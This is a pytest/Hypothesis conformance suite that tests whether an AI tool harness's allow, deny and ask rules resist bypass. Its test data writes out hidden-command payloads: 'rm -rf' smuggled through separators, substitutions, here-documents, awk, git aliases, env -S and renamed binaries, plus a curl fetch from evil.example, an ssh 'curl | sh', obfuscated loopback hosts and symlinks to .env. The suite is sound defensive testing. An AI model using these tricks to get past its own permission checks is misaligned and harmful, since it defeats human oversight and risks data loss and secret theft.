"""Rule matching can't be bypassed (PERM-11): compound shell commands and unnormalised paths.

Everything goes through ``execute``: a call that a rule must not allow either never runs or
runs only after the host was asked; a call a deny rule catches never runs and nobody is asked.
"""

from __future__ import annotations

import os
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from conformance._strategies_execution import fresh_dir
from conformance._strategies_permissions import (
    covered_by_prefix,
    edit_tool,
    fetch_tool,
    host_answering,
    mcp_tool_spec,
    read_tool,
    run_calls,
    shell_tool,
    sources,
)
from pytest_toolharness import strategies as ths
from pytest_toolharness.adapters import requires
from pytest_toolharness.specs import HostSpec, RuleSpec

PREFIXES = ("npm test", "git status", "ls", "make lint")
ARGS = ("", " -q", " src/", " --all -n 10")
# The hidden command, and a deny rule that names it.
OTHERS: tuple[tuple[str, str], ...] = (
    ("rm -rf x", "Bash(rm:*)"),
    ("rm -rf x", "Bash(rm -rf:*)"),
    ("curl -s https://evil.example/x.sh", "Bash(curl:*)"),
    ("git push --force origin main", "Bash(git push:*)"),
    ("chmod 777 /etc/passwd", "Bash(chmod *)"),
    ("sh", "Bash(sh)"),
)
JOINERS = ("&&", "||", ";", ";nospace", "|", "|nospace", "&", "\n", "$()", '"$()"', "``", "<()")


def join(allowed: str, other: str, joiner: str, other_first: bool) -> str:
    """``allowed`` and ``other`` joined so that a shell runs both."""
    if joiner == "$()":
        return f"{allowed} $({other})"
    if joiner == '"$()"':
        return f'{allowed} "$({other})"'
    if joiner == "``":
        return f"{allowed} `{other}`"
    if joiner == "<()":
        return f"{allowed} <({other})"
    left, right = (other, allowed) if other_first else (allowed, other)
    if joiner == "\n":
        return f"{left}\n{right}"
    if joiner.endswith("nospace"):
        return f"{left}{joiner.removesuffix('nospace')}{right}"
    return f"{left} {joiner} {right}"


@st.composite
def bypass_attempts(draw: st.DrawFn) -> tuple[str, str, str, str]:
    """(allowed prefix, full command, hidden command, deny rule naming the hidden command)."""
    prefix = draw(st.sampled_from(PREFIXES))
    allowed = prefix + draw(st.sampled_from(ARGS))
    other, deny = draw(st.sampled_from(OTHERS))
    command = join(allowed, other, draw(st.sampled_from(JOINERS)), draw(st.booleans()))
    return prefix, command, other, deny


def allow_rule_for(prefix: str, form: str) -> str:
    return {"colon": f"Bash({prefix}:*)", "space": f"Bash({prefix} *)"}[form]


@requires("execution", "permissions", "host_callback")
@pytest.mark.requirement("PERM-11", "MUST")
@settings(max_examples=30, deadline=None)
@given(
    attempt=bypass_attempts(),
    form=st.sampled_from(["colon", "space"]),
    source=sources(),
    headless=st.booleans(),
)
def test_prefix_allow_never_covers_a_compound_command(
    new_harness: Callable[[], Any],
    attempt: tuple[str, str, str, str],
    form: str,
    source: str,
    headless: bool,
) -> None:
    """PERM-11: ``Bash(npm test:*)`` never lets ``npm test && rm -rf x`` (``;``, ``||``, ``|``, ``&``, newline, ``$()``, backticks, ``<()``) run unasked."""
    prefix, command, other, _deny = attempt
    rule = allow_rule_for(prefix, form)
    host: HostSpec | None = None if headless else host_answering("deny")
    run = run_calls(
        new_harness(),
        [shell_tool()],
        [("Bash", {"command": command})],
        rules=[RuleSpec(rule, "allow", source)],
        host=host,
    )
    assert run.ran() == 0, (
        f"allow rule {rule!r} let the compound command {command!r} run (hidden part {other!r}); {run.describe()}"
    )
    if host is not None:
        assert len(run.asked) == 1, (
            f"allow rule {rule!r} does not cover {command!r}: the host should have been asked; {run.describe()}"
        )


@requires("execution", "permissions")
@pytest.mark.requirement("PERM-11", "MUST")
@settings(max_examples=15, deadline=None)
@given(
    command=st.sampled_from(PREFIXES).flatmap(lambda p: st.tuples(st.just(p), st.sampled_from(ARGS))),
    form=st.sampled_from(["colon", "space"]),
)
def test_prefix_allow_still_allows_the_plain_command(
    new_harness: Callable[[], Any], command: tuple[str, str], form: str
) -> None:
    """PERM-11 (control for the bypass test): ``Bash(npm test:*)`` does allow ``npm test`` and ``npm test -q`` alone."""
    prefix, args = command
    rule = allow_rule_for(prefix, form)
    host = host_answering("deny")
    run = run_calls(
        new_harness(),
        [shell_tool()],
        [("Bash", {"command": prefix + args})],
        rules=[RuleSpec(rule, "allow")],
        host=host,
    )
    assert (run.ran(), run.asked) == (1, []), f"{rule!r} must allow {prefix + args!r}: {run.describe()}"


@requires("execution", "permissions", "host_callback")
@pytest.mark.requirement("PERM-11", "MUST")
@settings(max_examples=30, deadline=None)
@given(
    attempt=bypass_attempts(),
    form=st.sampled_from(["colon", "space"]),
    source=sources(),
    mode=st.sampled_from(["default", "acceptEdits", "bypassPermissions", "dontAsk"]),
)
def test_deny_rule_applies_to_any_part(
    new_harness: Callable[[], Any],
    attempt: tuple[str, str, str, str],
    form: str,
    source: str,
    mode: str,
) -> None:
    """PERM-11: a deny rule for the hidden command denies the whole compound command, beside an allow rule for the visible part, in any mode."""
    prefix, command, other, deny = attempt
    rules = [RuleSpec(allow_rule_for(prefix, form), "allow", source), RuleSpec(deny, "deny", source)]
    run = run_calls(
        new_harness(),
        [shell_tool()],
        [("Bash", {"command": command})],
        rules=rules,
        mode=mode,
        host=host_answering("allow"),
    )
    assert run.ran() == 0, (
        f"deny rule {deny!r} missed {other!r} inside {command!r} ({mode}); {run.describe()}"
    )
    assert run.asked == [], (
        f"deny rule {deny!r} matched {command!r}: the host must not be asked; {run.describe()}"
    )


def _project() -> Path:
    """A working directory with ``.env``, ``src/app.py`` and an outside sibling file."""
    root = fresh_dir()
    cwd = root / "project"
    (cwd / "src").mkdir(parents=True)
    (cwd / ".env").write_text("SECRET=1\n", encoding="utf-8")
    (cwd / "src" / "app.py").write_text("print(1)\n", encoding="utf-8")
    (root / "outside.txt").write_text("x\n", encoding="utf-8")
    return cwd


@st.composite
def env_spellings(draw: st.DrawFn) -> tuple[str, bool]:
    """(a spelling of ``.env``, whether it is absolute: to be prefixed with the working directory)."""
    if draw(st.booleans()):
        return draw(
            st.sampled_from(["./a/../.env", ".//.env", ".env", "src/../.env", "./src/./../.env"])
        ), False
    if draw(st.booleans()):
        return draw(ths.path_variants(".env")), False
    return draw(st.sampled_from(["/.env", "//.env", "/src/../.env", "/./.env"])), True


@requires("execution", "permissions", "host_callback")
@pytest.mark.requirement("PERM-11", "MUST")
@settings(max_examples=30, deadline=None)
@given(
    spelling=env_spellings(),
    kind=st.sampled_from(["read", "edit"]),
    rule_form=st.sampled_from(["./.env", ".env"]),
    mode=st.sampled_from(["default", "acceptEdits", "bypassPermissions"]),
    source=sources(),
)
def test_path_deny_matches_every_spelling_of_the_path(
    new_harness: Callable[[], Any],
    spelling: tuple[str, bool],
    kind: str,
    rule_form: str,
    mode: str,
    source: str,
) -> None:
    """PERM-11: ``Read(./.env)`` / ``Edit(./.env)`` deny catches ``./a/../.env``, ``.//.env`` and the absolute path of the same file."""
    cwd = _project()
    text, absolute = spelling
    path = f"{cwd}{text}" if absolute else text
    tool = read_tool() if kind == "read" else edit_tool()
    rules = [RuleSpec(f"{tool.name}({rule_form})", "deny", source), RuleSpec(tool.name, "allow", source)]
    run = run_calls(
        new_harness(),
        [tool],
        [(tool.name, {"file_path": path})],
        rules=rules,
        mode=mode,
        host=host_answering("allow"),
        cwd=cwd,
    )
    assert run.ran() == 0, (
        f"{rules[0].text} deny did not catch {path!r} (cwd {cwd}, {mode}); {run.describe()}"
    )
    assert run.asked == [], (
        f"{rules[0].text} deny matched {path!r}: the host must not be asked; {run.describe()}"
    )


@requires("execution", "permissions", "host_callback")
@pytest.mark.requirement("PERM-11", "MUST")
@settings(max_examples=30, deadline=None)
@given(
    target=st.sampled_from(["src/../.env", "src/../../outside.txt", "src/app.py", "src/new.txt"]),
    data=st.data(),
)
def test_path_allow_matches_only_the_normalised_path(
    new_harness: Callable[[], Any], target: str, data: st.DataObject
) -> None:
    """PERM-11: ``Edit(./src/**)`` allows any spelling of a path inside ``src/`` and none that climbs out of it (``src/../.env``)."""
    cwd = _project()
    path = data.draw(ths.path_variants(target), label="path")
    inside = not target.startswith("src/..")
    run = run_calls(
        new_harness(),
        [edit_tool()],
        [("Edit", {"file_path": path})],
        rules=[RuleSpec("Edit(./src/**)", "allow")],
        host=host_answering("deny"),
        cwd=cwd,
    )
    if inside:
        assert (run.ran(), run.asked) == (1, []), f"Edit(./src/**) must allow {path!r}: {run.describe()}"
    else:
        assert (run.ran(), len(run.asked)) == (0, 1), (
            f"Edit(./src/**) must not allow {path!r} (it is {target!r}); expected the host to be asked: "
            f"{run.describe()}"
        )


# --------------------------------------------------------------------------------------------
# Bash is the oracle (PERM-16, PERM-17): what the harness allows is run by a real bash in a
# sandbox, and every program it executes must be covered by an allow rule; a deny rule's program
# must never run. Without bash or bubblewrap these tests skip, naming what is missing.


@pytest.mark.toolharness_heavy
@requires("execution", "permissions")
@pytest.mark.requirement("PERM-16", "MUST")
@settings(max_examples=150, deadline=None)
@given(attempt=ths.shell_attempts(), form=st.sampled_from(["colon", "space"]))
@example(attempt=ths.ShellAttempt("npm test", "rm", "npm test; c=rm; $c -rf x"), form="colon")
def test_allowed_command_runs_only_what_allow_rules_cover(
    new_harness: Callable[[], Any], bash_oracle: ths.BashSandbox, attempt: ths.ShellAttempt, form: str
) -> None:
    """PERM-16: whatever the harness allows under ``Bash(prefix:*)``, bash runs no program that rule does not cover.

    The command hides a payload with every device of bash's grammar (blanks, quoting, escapes,
    comments, redirections, here-documents, substitutions, subshells, wrappers with options);
    nobody can be asked, so a call that runs was allowed outright. Bash in a sandbox says what it
    would execute; a harmless wrapper (``time``, ``nice``, ``timeout``, ``nohup``, ``stdbuf``) is
    allowed to run, anything else must match the rule.
    """
    rule = allow_rule_for(attempt.prefix, form)
    run = run_calls(
        new_harness(),
        [shell_tool()],
        [("Bash", {"command": attempt.command})],
        rules=[RuleSpec(rule, "allow")],
    )
    if run.ran() == 0:
        return
    executed = bash_oracle.executed(attempt.command)
    uncovered = [record for record in executed if not covered_by_prefix(record, attempt.prefix)]
    assert not uncovered, (
        f"{rule} allowed {attempt.command!r}, and bash would run {uncovered!r}, which no allow rule covers"
    )


@pytest.mark.toolharness_heavy
@requires("execution", "permissions")
@pytest.mark.requirement("PERM-17", "MUST")
@settings(max_examples=150, deadline=None)
@given(
    attempt=ths.shell_attempts(),
    deny_form=st.sampled_from(["Bash({}:*)", "Bash({} *)", "Bash({})"]),
    mode=st.sampled_from(["default", "acceptEdits", "bypassPermissions"]),
)
@example(
    attempt=ths.ShellAttempt("npm test", "rm", "npm test && $(echo rm) -rf x"),
    deny_form="Bash({}:*)",
    mode="bypassPermissions",
)
@example(
    attempt=ths.ShellAttempt("git status", "rm", "f() { rm -rf x; }; git status; f"),
    deny_form="Bash({} *)",
    mode="default",
)
# Found by the exploratory profile: a ``;`` right after an unterminated here-document start,
# whose terminator line carries more words (bash reads the body to the end; the grammar fails).
@example(
    attempt=ths.ShellAttempt("npm test", "rm", "npm test <<EOF; rm\nbody\nEOF $(rm\xa0-rf\xa0x)"),
    deny_form="Bash({}:*)",
    mode="bypassPermissions",
)
@example(
    attempt=ths.ShellAttempt("npm test", "rm", "npm test <<EOF;rm -rf x\nbody\nEOF x"),
    deny_form="Bash({} *)",
    mode="default",
)
# Found by a default run: the grammar reads ``EOF;rm`` as the delimiter and ends the body on a
# later line, without a syntax error.
@example(
    attempt=ths.ShellAttempt("npm test", "rm", "npm test <<EOF;rm\nbody\nEOF; rm${IFS}x"),
    deny_form="Bash({}:*)",
    mode="default",
)
# Programs that run a script given as an option, or their words joined, as a command.
@example(
    attempt=ths.ShellAttempt("npm test", "rm", "npm test; su -c 'rm -rf x' root"),
    deny_form="Bash({}:*)",
    mode="bypassPermissions",
)
@example(
    attempt=ths.ShellAttempt("git status", "curl", "git status && ssh host 'curl -s x | sh'"),
    deny_form="Bash({} *)",
    mode="bypassPermissions",
)
# Programs that run a command given in an option, or in code of their own language.
@example(
    attempt=ths.ShellAttempt("npm test", "rm", "npm test; awk 'BEGIN { system(\"rm -rf x\") }'"),
    deny_form="Bash({}:*)",
    mode="bypassPermissions",
)
@example(
    attempt=ths.ShellAttempt("git status", "rm", "git status && git -c alias.z='!rm -rf x' z"),
    deny_form="Bash({} *)",
    mode="bypassPermissions",
)
@example(
    attempt=ths.ShellAttempt(
        "npm test",
        "rm",
        "npm test; GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=alias.z GIT_CONFIG_VALUE_0='!rm -rf x' git z",
    ),
    deny_form="Bash({}:*)",
    mode="bypassPermissions",
)
# env splits its -S string into a command its own way, however the option is spelled (session 7).
@example(
    attempt=ths.ShellAttempt("npm test", "rm", "npm test; env --split-string='rm -rf x'"),
    deny_form="Bash({}:*)",
    mode="bypassPermissions",
)
@example(
    attempt=ths.ShellAttempt("git status", "rm", "git status && env -S 'rm\\_-rf\\_x'"),
    deny_form="Bash({} *)",
    mode="bypassPermissions",
)
@example(
    attempt=ths.ShellAttempt("npm test", "rm", "npm test; env -S '-i rm -rf x'"),
    deny_form="Bash({}:*)",
    mode="bypassPermissions",
)
# A program the line makes under another name and runs by its path (session 7).
@example(
    attempt=ths.ShellAttempt("npm test", "rm", "npm test; cp /usr/bin/rm ./t; ./t -rf x"),
    deny_form="Bash({}:*)",
    mode="bypassPermissions",
)
@example(
    attempt=ths.ShellAttempt("git status", "rm", "git status && ln -s /usr/bin/rm t && ./t -rf x"),
    deny_form="Bash({} *)",
    mode="bypassPermissions",
)
def test_deny_rule_program_never_runs(
    new_harness: Callable[[], Any],
    bash_oracle: ths.BashSandbox,
    attempt: ths.ShellAttempt,
    deny_form: str,
    mode: str,
) -> None:
    """PERM-17: a deny rule for a program catches it however it is spelled: bash never runs it unasked.

    Quoted or escaped names, ``$'...'``, path-qualified binaries, globs, wrappers with options,
    compounds, substitutions, subshells, nested shells, and programs that start a command given in
    an option, in their own code or in their environment (real ``awk``, ``git``, ``tar``, ``sed``,
    ``perl``, ``env``... run in the sandbox), ``env -S`` in any spelling, a program the line copies or
    links under another name and runs; beside an allow rule for the visible
    part, in any mode (bypassPermissions included). A call that runs without anyone asked is
    given to a sandboxed bash: the denied program must not be among what it executes.
    """
    deny = deny_form.format(attempt.payload)
    rules = [RuleSpec(f"Bash({attempt.prefix}:*)", "allow"), RuleSpec(deny, "deny")]
    run = run_calls(
        new_harness(), [shell_tool()], [("Bash", {"command": attempt.command})], rules=rules, mode=mode
    )
    if run.ran() == 0:
        return
    executed = bash_oracle.executed(attempt.command)
    hits = [record for record in executed if record[0].rsplit("/", 1)[-1] == attempt.payload]
    if deny_form == "Bash({})":  # an exact rule denies only the bare command
        hits = [record for record in hits if len(record) == 1]
    assert not hits, f"{deny} ({mode}) let {attempt.command!r} run, and bash would run {hits!r}"


@requires("execution", "permissions", "host_callback")
@pytest.mark.requirement("PERM-17", "MUST")
@settings(max_examples=60, deadline=None)
@given(
    attempt=ths.shell_attempts(),
    ask_form=st.sampled_from(["Bash({}:*)", "Bash({} *)"]),
    mode=st.sampled_from(["default", "acceptEdits", "bypassPermissions"]),
)
@example(
    attempt=ths.ShellAttempt("npm test", "rm", "npm test; su -c 'rm -rf x' root"),
    ask_form="Bash({}:*)",
    mode="bypassPermissions",
)
def test_ask_rule_program_never_runs_unasked(
    new_harness: Callable[[], Any],
    bash_oracle: ths.BashSandbox,
    attempt: ths.ShellAttempt,
    ask_form: str,
    mode: str,
) -> None:
    """PERM-17: an ask rule for a program catches it however it is spelled: the host is asked before bash runs it.

    The same hidden payloads as the deny property, beside an allow rule for the visible part, in
    any mode; the host allows whatever it is asked. A call that ran without the host being asked is
    given to a sandboxed bash: the asked-about program must not be among what it executes.
    """
    ask = ask_form.format(attempt.payload)
    rules = [RuleSpec(f"Bash({attempt.prefix}:*)", "allow"), RuleSpec(ask, "ask")]
    run = run_calls(
        new_harness(),
        [shell_tool()],
        [("Bash", {"command": attempt.command})],
        rules=rules,
        mode=mode,
        host=host_answering("allow"),
    )
    if run.ran() == 0 or run.asked:
        return
    hits = [r for r in bash_oracle.executed(attempt.command) if r[0].rsplit("/", 1)[-1] == attempt.payload]
    assert not hits, f"{ask} ({mode}) let {attempt.command!r} run unasked, and bash would run {hits!r}"


ORDINARY: tuple[tuple[str, tuple[str, ...]], ...] = (
    ("npm test", ("Bash(npm test:*)",)),
    ("timeout 5 npm test", ("Bash(npm test:*)",)),
    ("timeout -s KILL 60 npm test -q", ("Bash(npm test:*)",)),
    ("time npm test", ("Bash(npm test:*)",)),
    ("nice -n 10 make lint", ("Bash(make lint:*)",)),
    ("nohup make lint", ("Bash(make lint:*)",)),
    ("stdbuf -oL npm test", ("Bash(npm test:*)",)),
    ("NODE_ENV=test npm test", ("Bash(npm test:*)",)),
    ("CI=1 NODE_ENV=test npm test --watch=false", ("Bash(npm test *)",)),
    ("npm test 2>&1", ("Bash(npm test:*)",)),
    ("npm test > /dev/null 2>&1", ("Bash(npm test:*)",)),
    ("npm test && git status", ("Bash(npm test:*)", "Bash(git status:*)")),
    ("git status | head -n 5", ("Bash(git status:*)", "Bash(head:*)")),
    ("git status # what changed", ("Bash(git status:*)",)),
    ('git commit -m "fix: a && b; c"', ("Bash(git commit:*)",)),
    ("ls -la \\\n  src/", ("Bash(ls:*)",)),
    ("cat <<'EOF'\nrm -rf x\nEOF", ("Bash(cat:*)",)),
)


@requires("execution", "permissions")
@pytest.mark.requirement("PERM-16", "MUST")
@settings(max_examples=len(ORDINARY) * 2, deadline=None)
@given(case=st.sampled_from(ORDINARY))
def test_ordinary_commands_are_still_allowed(
    new_harness: Callable[[], Any], case: tuple[str, tuple[str, ...]]
) -> None:
    """PERM-16 (control): ordinary commands run under the rules for what they run, harmless wrappers and assignments stripped."""
    command, texts = case
    run = run_calls(
        new_harness(),
        [shell_tool()],
        [("Bash", {"command": command})],
        rules=[RuleSpec(text, "allow") for text in texts],
    )
    assert run.ran() == 1, f"{texts} must allow {command!r}: {run.describe()}"


# --------------------------------------------------------------------------------------------
# PERM-11 as amended: symlink targets, ``~``, normalised hosts, MCP servers with ``__``.


@requires("execution", "permissions")
@pytest.mark.requirement("PERM-11", "MUST")
@settings(max_examples=40, deadline=None)
@given(
    host=st.sampled_from(
        [
            ("127.0.0.1", "http://2130706433/"),
            ("127.0.0.1", "http://0x7f.1/admin"),
            ("127.0.0.1", "http://0177.0.0.1/"),
            ("127.0.0.1", "http://0x7f000001/"),
            ("127.0.0.1", "http://127.1/"),
            ("evil.example", "https://%65vil.example/"),
            ("evil.example", "https://EVIL.example./x"),
            ("evil.example", "https://user@evil.example:443/"),
            ("xn--bcher-kva.example", "https://bücher.example/"),
            ("*.evil.example", "https://a.%65vil.example/"),
            # An IPv4-mapped IPv6 address reaches the IPv4 host; IDNA maps Unicode full stops.
            ("127.0.0.1", "http://[::ffff:127.0.0.1]/"),
            ("127.0.0.1", "http://[::ffff:7f00:1]:8080/"),
            ("evil.example", "https://evil.example\u3002/"),
            ("evil.example", "https://evil\uff0eexample/"),
        ]
    ),
    mode=st.sampled_from(["default", "bypassPermissions"]),
)
def test_domain_deny_matches_the_normalised_host(
    new_harness: Callable[[], Any], host: tuple[str, str], mode: str
) -> None:
    """PERM-11: ``WebFetch(domain:h)`` denies every spelling of ``h``: case, trailing dot, percent-encoding, IDNA (Unicode full stops too), numeric IPv4, IPv4-mapped IPv6."""
    rule_host, url = host
    rules = [RuleSpec(f"WebFetch(domain:{rule_host})", "deny"), RuleSpec("WebFetch", "allow")]
    run = run_calls(new_harness(), [fetch_tool()], [("WebFetch", {"url": url})], rules=rules, mode=mode)
    assert run.ran() == 0, f"WebFetch(domain:{rule_host}) deny missed {url!r} ({mode}): {run.describe()}"


@requires("execution", "permissions")
@pytest.mark.requirement("PERM-11", "MUST")
@settings(max_examples=16, deadline=None)
@given(
    kind=st.sampled_from(["symlink", "hardlink", "tilde"]),
    mode=st.sampled_from(["default", "bypassPermissions"]),
    rule_form=st.sampled_from(["./.env", ".env"]),
)
def test_path_deny_follows_symlinks_and_tilde(
    new_harness: Callable[[], Any], kind: str, mode: str, rule_form: str
) -> None:
    """PERM-11: ``Read(./.env)`` denies a symlink to ``.env`` and a hard link to it (the same file by another name); ``Read(~/secret)`` denies ``$HOME/secret`` however written."""
    cwd = _project()
    if kind in ("symlink", "hardlink"):
        if kind == "symlink":
            (cwd / "innocent.txt").symlink_to(cwd / ".env")
        else:
            os.link(cwd / ".env", cwd / "innocent.txt")
        rule, path = f"Read({rule_form})", "innocent.txt"
    else:
        rule, path = "Read(~/secret-of-the-suite)", str(Path.home() / "secret-of-the-suite")
    rules = [RuleSpec(rule, "deny"), RuleSpec("Read", "allow")]
    run = run_calls(
        new_harness(), [read_tool()], [("Read", {"file_path": path})], rules=rules, mode=mode, cwd=cwd
    )
    assert run.ran() == 0, f"{rule} deny missed {path!r} ({mode}): {run.describe()}"


@requires("execution", "permissions")
@pytest.mark.requirement("PERM-11", "MUST")
@settings(max_examples=10, deadline=None)
@given(rule=st.sampled_from(["mcp__my__server", "mcp__my__server__*", "mcp__my__server__run"]))
def test_mcp_rule_for_a_server_whose_name_contains_double_underscore(
    new_harness: Callable[[], Any], rule: str
) -> None:
    """PERM-11: ``mcp__my__server`` denies the tools of server ``my__server`` (the name is not split at its first ``__``)."""
    tool = mcp_tool_spec("my__server", "run")
    run = run_calls(
        new_harness(), [tool], [(tool.name, {})], rules=[RuleSpec(rule, "deny")], mode="bypassPermissions"
    )
    assert run.ran() == 0, f"{rule} deny missed {tool.name}: {run.describe()}"


KNOWN_BYPASSES: tuple[str, ...] = (
    # Characters bash does not treat as blanks, before a comment sign.
    "git status\v# ; rm -rf x",
    "git status\f#;rm -rf x",
    "git status\xa0# ; rm -rf x",
    "git status 2>&1\u2003# ; rm x",
    # A '#' inside a word is no comment; escaped and line-continued separators.
    "git status a#;rm x",
    "git status \\\n;rm x",
    "git status >&$(rm x)",
    "git status <<<$(rm x)",
    "git status <<EOF\n$(rm x)\nEOF",
    "git status <<EOF && rm x\nbody\nEOF",
    "git status <<EOF; rm x\nbody\nEOF $(true)",
    "git status <<EOF;rm x\nEOF",
    'git status ${x:-"$(rm x)"}',
    "git status\n\n\\rm x",
)


@requires("execution", "permissions")
@pytest.mark.requirement("PERM-16", "MUST")
@settings(max_examples=len(KNOWN_BYPASSES) * 2, deadline=None)
@given(command=st.sampled_from(KNOWN_BYPASSES))
def test_known_bypasses_run_nothing_uncovered(
    new_harness: Callable[[], Any], bash_oracle: ths.BashSandbox, command: str
) -> None:
    """PERM-16: commands where home-made lexers and bash disagree: if ``Bash(git status:*)`` lets one run, bash runs only git."""
    run = run_calls(
        new_harness(),
        [shell_tool()],
        [("Bash", {"command": command})],
        rules=[RuleSpec("Bash(git status:*)", "allow")],
    )
    if run.ran() == 0:
        return
    uncovered = [
        record for record in bash_oracle.executed(command) if not covered_by_prefix(record, "git status")
    ]
    assert not uncovered, f"Bash(git status:*) allowed {command!r}, and bash would run {uncovered!r}"


@requires("execution", "permissions")
@pytest.mark.requirement("PERM-16", "MUST")
@settings(max_examples=25, deadline=None)
@given(
    wrapper=st.sampled_from(
        [
            "sudo ",
            "sudo -u nobody ",
            "env ",
            "env -i ",
            "/usr/bin/env FOO=1 ",
            "xargs ",
            "exec ",
            "command ",
            "doas ",
        ]
    )
)
def test_wrapper_that_is_not_harmless_needs_its_own_rule(
    new_harness: Callable[[], Any], wrapper: str
) -> None:
    """PERM-16: ``Bash(npm test:*)`` does not allow ``sudo npm test``: a wrapper that changes what runs needs a rule too."""
    command = f"{wrapper}npm test"
    run = run_calls(
        new_harness(),
        [shell_tool()],
        [("Bash", {"command": command})],
        rules=[RuleSpec("Bash(npm test:*)", "allow")],
    )
    assert run.ran() == 0, f"Bash(npm test:*) allowed {command!r}: {run.describe()}"


@requires("execution", "permissions")
@pytest.mark.requirement("PERM-17", "MUST")
@settings(max_examples=60, deadline=None)
@given(data=st.data(), mode=st.sampled_from(["default", "bypassPermissions"]))
def test_deny_catches_every_spelling_of_the_name(
    new_harness: Callable[[], Any], data: st.DataObject, mode: str
) -> None:
    r"""PERM-17: ``Bash(rm:*)`` catches ``'rm'``, ``\rm``, ``r""m``, ``$'\x72m'``, ``/bin/rm``, globs, behind any wrapper: it never runs unasked."""
    name = data.draw(ths.command_name_spellings("rm"), label="name")
    command = data.draw(ths.wrapped_commands(f"{name} -rf x"), label="command")
    rules = [RuleSpec("Bash(rm:*)", "deny"), RuleSpec("Bash", "allow")]
    run = run_calls(new_harness(), [shell_tool()], [("Bash", {"command": command})], rules=rules, mode=mode)
    assert run.ran() == 0, f"Bash(rm:*) deny let {command!r} run ({mode}): {run.describe()}"
